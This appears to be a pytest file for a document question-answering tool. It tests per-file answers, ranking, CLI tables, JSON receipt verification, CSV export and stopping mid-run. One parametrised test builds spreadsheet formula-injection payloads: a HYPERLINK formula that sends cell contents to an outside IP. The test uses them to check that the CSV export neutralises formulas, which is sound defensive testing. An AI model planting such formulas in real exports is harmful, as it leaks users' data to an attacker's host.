"""One question asked of each file by itself: in Python, in the shell, and as files to keep. The page's tab: test_web and test_browser."""

import csv
import io
import json
import os
import signal
import subprocess
import sys
from dataclasses import replace
from itertools import islice
from pathlib import Path

import pytest

import rag
from rag.answers import Answer, Citation, FileAnswer, Item
from rag.config import Config
from rag.errors import UsageError
from rag.messages import Reason
from rag.overview import COLUMNS, ranked, said, to_csv, why_not
from rag.pipeline import Rag
from rag.shell.cli import ANSWERED, NOT_FOUND, STOPPED, WRONG_USE, main
from tests.conftest import ROOT

HIGH = "How high is the Elmet tower?"


def untimed(answer: Answer) -> Answer:
    return replace(answer, trace=replace(answer.trace, stages=()))


def asked(source: str, answer: Answer) -> FileAnswer:
    return FileAnswer(source, f"Title of {source}", "2024-05-17", answer)


def answered(short: str, quote: str, confidence: float = 0.9) -> Answer:
    citation = Citation(1, "a.txt", 3, 3 + len(quote), quote, "", "", 1.0)
    return Answer("q", True, short, short, confidence, citations=(citation,))


def test_each_file_says_what_it_says_when_it_is_asked_alone(library: Rag) -> None:
    question = "What is the harbour loan worth?"
    each = list(library.answer_each(question))
    assert [found.source for found in each] == library.sources and len(each) > 5
    for found in each:
        assert untimed(found.answer) == untimed(library.read(question, sources=[found.source]))
        assert found.answer.trace.sources == (found.source,)
    assert 0 < sum(found.answer.answered for found in each) < len(each)


def test_some_files_are_asked_in_the_order_given_each_once(library: Rag) -> None:
    last, first = library.sources[-1], library.sources[0]
    assert [found.source for found in library.answer_each("What is it?", sources=[last, first, last])] == [last, first]


def test_what_cannot_be_asked_is_said_before_the_first_file_is_read(library: Rag) -> None:
    for question, sources in ((" ", []), ("What is it?", ["nowhere.txt"])):
        with pytest.raises(UsageError):
            library.answer_each(question, sources=sources)


def test_no_more_files_are_read_than_answers_are_taken(library: Rag) -> None:
    told: list[tuple[str, int, int]] = []
    answers = library.answer_each("What is the harbour loan worth?", on_progress=lambda *step: told.append(step))
    assert told == []
    assert len(list(islice(answers, 2))) == 2
    count = len(library.sources)
    assert told == [("ask", done, count) for done in range(3)]


def test_a_file_that_fails_is_refused_and_the_others_follow(docs: Path, tmp_path: Path) -> None:
    for name in ("a.txt", "edited.txt", "gone.txt", "removed.txt", "z.txt"):
        (docs / name).write_text("The Elmet tower\n\nThe Elmet tower is 48 metres high.\n", encoding="utf-8")
    with Rag(Config(docs=docs, index_dir=tmp_path / "index")) as one:
        one.sync()
        answers = one.answer_each(HIGH, sources=["a.txt", "edited.txt", "gone.txt", "removed.txt", "z.txt"])
        assert next(answers).answer.short == "48 metres"
        (docs / "removed.txt").unlink()
        one.sync()
        (docs / "edited.txt").write_text("Another text.", encoding="utf-8")
        (docs / "gone.txt").unlink()
        edited, gone, removed, last = answers
    assert [reason.code for each in (edited, gone, removed) for reason in each.answer.reasons] == [
        "stale",
        "stale",
        "no longer indexed",
    ]
    assert not any(each.answer.answered for each in (edited, gone, removed)) and last.answer.short == "48 metres"
    assert removed.answer.trace.sources == ("removed.txt",)


def test_from_python_the_index_is_refreshed_first(docs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RAG_INDEX_DIR", str(tmp_path / "index"))
    assert [each.answer.short for each in rag.answer_each(HIGH, docs=docs)] == ["", "48 metres"]
    (docs / "third.txt").write_text("The Elmet tower is 48 metres high.", encoding="utf-8")
    assert [each.source for each in rag.answer_each(HIGH, docs=docs, sources=["third.txt"])] == ["third.txt"]


def test_those_that_answer_come_first_the_surest_before_the_others() -> None:
    refused = Answer("q", False, "", confidence=0.95)
    each = [asked("a", refused), asked("b", answered("x", "x", 0.5)), asked("c", answered("x", "x", 0.8))]
    assert [found.source for found in ranked(each)] == ["c", "b", "a"]


def test_an_answer_is_said_on_one_line() -> None:
    items = replace(answered("bread\nand tin", "bread\nand tin"), items=(Item(1, 3, 8, "bread"), Item(1, 13, 16, "tin")))
    assert said(items) == "bread; tin"
    assert said(answered("48\nmetres", "")) == "48 metres" and said(answered("", "It is\nhigh.")) == "It is high."
    held = {"found": "48", "source": "a.txt", "confidence": 0.2, "threshold": 0.45}
    refused = Answer("q", False, "", reasons=(Reason("held back", held), Reason("one not read", {"files": ["b"]})))
    assert said(refused) == "" and why_not(refused) == "closest: “48”"
    lacks = Answer("谁？", False, "", reasons=(Reason("closest lacks", {"names": ["塔"]}),), language="zh")
    assert why_not(lacks) == "最接近的段落没有提到：塔。" and why_not(answered("x", "x")) == ""


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "＝", "\t="])
def test_no_cell_is_a_formula_and_the_quote_is_in_it(begin: str) -> None:
    attack = f'{begin}HYPERLINK("http://203.0.113.1/?"&A1,"x")'
    found = replace(asked(f"{attack}.txt", answered(attack, attack)), title=attack, date=attack)
    text = to_csv([found])
    row = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))[1]
    assert len(row) == len(COLUMNS)
    assert not any(cell[:1] in ("\t", "\r", "\n") or cell.strip()[:1] in tuple("=+-@＝") for cell in row if cell)
    assert row[COLUMNS.index("quote")] == f"'{attack}"


def test_a_table_for_spreadsheets_holds_all_and_leaves_plain_cells_alone() -> None:
    refused = Answer("q", False, "", confidence=0.25, reasons=(Reason("nothing shared"),))
    text = to_csv([asked("塔.txt", answered("48 米", '高 48 米, "约"\n两行')), asked("b.txt", refused)])
    assert text.startswith("\ufefffile,title,date,answered,answer,quote,start,end,confidence,reason\r\n")
    first, second = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert first == {
        "file": "塔.txt", "title": "Title of 塔.txt", "date": "2024-05-17", "answered": "yes", "answer": "48 米",
        "quote": '高 48 米, "约"\n两行', "start": "3", "end": "17", "confidence": "0.90", "reason": "",
    }  # fmt: skip
    assert (second["answered"], second["answer"], second["quote"], second["start"]) == ("no", "", "", "")
    assert (second["confidence"], second["reason"]) == ("0.25", "No passage shares a word with the question.")


@pytest.fixture
def ask(docs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    monkeypatch.setenv("RAG_INDEX_DIR", str(tmp_path / "index"))
    monkeypatch.setenv("COLUMNS", "140")
    (docs / "roof.txt").write_text("The roof of the mill is made of slate.\n", encoding="utf-8")
    return ["ask", HIGH, "--docs", str(docs), "--each"]


def test_the_shell_lists_each_file_the_answers_first(ask: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    assert main(ask) == ANSWERED
    rows = [line for line in capsys.readouterr().out.splitlines() if line.startswith("│")]
    assert len(rows) == 3 and all(part in rows[0] for part in ("tower.md", "48 metres", "The Elmet tower is 48 metres high."))
    assert all("—" in row for row in rows[1:]) and {row.split()[1] for row in rows[1:]} == {"bridge.txt", "roof.txt"}
    assert main([*ask, "--source", "bridge.txt"]) == NOT_FOUND


def test_two_files_stand_side_by_side(ask: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    assert main([*ask, "--source", "bridge.txt", "--source", "tower.md"]) == ANSWERED
    head, *rows = [line for line in capsys.readouterr().out.splitlines() if line[0] in "┃│"]
    assert head.index("tower.md") < head.index("bridge.txt")
    assert "48 metres" in rows[0] and "—" in rows[0]


def test_json_is_an_array_of_receipts(ask: list[str], docs: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main([*ask, "--json"]) == ANSWERED
    receipts = json.loads(capsys.readouterr().out)
    assert [each["source"] for each in receipts[:1]] == ["tower.md"] and len(receipts) == 3
    citation = receipts[0]["citations"][0]
    assert (docs / citation["source"]).read_text()[citation["start"] : citation["end"]] == citation["quote"]
    assert all(each["made"]["docs"] == str(docs) and each["trace"]["sources"] == [each["source"]] for each in receipts)


def test_the_receipts_of_all_files_are_verified_at_once(
    ask: list[str], docs: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (docs / "third.txt").write_text("The Elmet tower is 48 metres high.\n", encoding="utf-8")
    assert main([*ask, "--json"]) == ANSWERED
    kept = tmp_path / "each.json"
    kept.write_text(capsys.readouterr().out, encoding="utf-8")
    verify = ["verify", str(kept), "--docs", str(docs)]
    assert main(verify) == ANSWERED
    out = capsys.readouterr().out
    assert "verbatim  tower.md" in out and "verbatim  third.txt" in out
    receipts = json.loads(kept.read_text(encoding="utf-8"))
    forged = [receipts[0], {**receipts[1], "short": "84 metres"}, *receipts[2:]]
    kept.write_text(json.dumps(forged), encoding="utf-8")
    assert main(verify) == NOT_FOUND and "The short answer is not in the quote." in capsys.readouterr().out
    kept.write_text(json.dumps(receipts), encoding="utf-8")
    (docs / "third.txt").write_text("Gone.", encoding="utf-8")
    assert main(verify) == NOT_FOUND
    assert "changed  third.txt" in capsys.readouterr().out


def test_csv_goes_to_a_file_or_to_standard_output_alone(
    ask: list[str], tmp_path: Path, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    path = tmp_path / "answers.csv"
    assert main([*ask, "--csv", str(path)]) == ANSWERED
    assert b"tower.md" in capfdbinary.readouterr().out
    assert main([*ask, "--csv", "-"]) == ANSWERED
    assert capfdbinary.readouterr().out == path.read_bytes()
    assert path.read_bytes().startswith(b"\xef\xbb\xbffile,") and b"\r\r\n" not in path.read_bytes()


def test_options_that_do_not_go_together_are_told(ask: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for more in (["--llm", "ollama:x"], ["--explain"], ["--json", "--csv", "-"], ["--csv", str(tmp_path / "no" / "x.csv")]):
        assert main([*ask, *more]) == WRONG_USE
    assert main([*ask[:-1], "--csv", "-"]) == WRONG_USE
    assert "Traceback" not in capsys.readouterr().err


@pytest.mark.slow
def test_what_is_there_is_shown_when_it_is_stopped(ask: list[str], docs: Path) -> None:
    for number in range(80):
        (docs / f"{number:02}.txt").write_text(f"The Elmet tower is {number + 10} metres high.\n", encoding="utf-8")
    assert main(["sync", str(docs)]) == 0
    command = [sys.executable, "-m", "rag", "-v", *ask]
    environment = {**os.environ, "PYTHONPATH": str(ROOT), "PYTHONUNBUFFERED": "1"}
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=environment) as process:
        assert process.stderr is not None and process.stdout is not None
        next(line for line in process.stderr if "with confidence" in line)
        process.send_signal(signal.SIGINT)
        out, err = process.communicate(timeout=60)
    assert process.returncode == STOPPED
    rows = sum(line.startswith("│") for line in out.splitlines())
    assert 0 < rows < 83 and f"stopped; {83 - rows} of 83 files were not asked." in err
    assert "Traceback" not in err
